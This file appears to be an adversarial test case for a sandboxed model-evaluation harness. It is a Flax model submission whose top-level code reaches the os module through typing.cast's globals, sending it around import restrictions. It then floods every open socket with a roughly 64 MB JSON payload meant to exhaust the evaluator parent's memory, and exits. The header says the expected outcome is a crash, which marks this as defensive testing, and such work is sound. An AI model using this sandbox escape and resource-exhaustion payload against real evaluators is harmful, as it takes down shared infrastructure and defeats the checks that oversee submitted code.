# expect: crash
# kind: take-down
# attack: a reply frame just under the 64 MB trace limit that is valid JSON made of 22 million empty objects ([{},{},...]): the evaluator parent (no memory limit of its own) json.loads it in full before parse_trace rejects it, ~1.6 GB and over a second of its single thread per sandbox (x num_workers concurrent traces); it must still become a crash, and ideally be refused before decoding
import typing

import flax.linen as nn

AG = typing.operator.attrgetter
MODS = AG("modules")(AG("__globals__")(typing.cast)["sys"])
OS, STAT = MODS["os"], MODS["stat"]
COUNT = (64 << 20) // 3 - 8
PAYLOAD = b"[" + b"{}," * (COUNT - 1) + b"{}]"
for fd in range(3, 64):
    try:
        if STAT.S_ISSOCK(OS.fstat(fd).st_mode):
            OS.write(fd, len(PAYLOAD).to_bytes(8, "big") + PAYLOAD)
    except Exception:
        pass
AG("_exit")(OS)(0)


class Model(nn.Module):
    @nn.compact
    def __call__(self, x, train=False):
        return nn.Dense(10)(x)
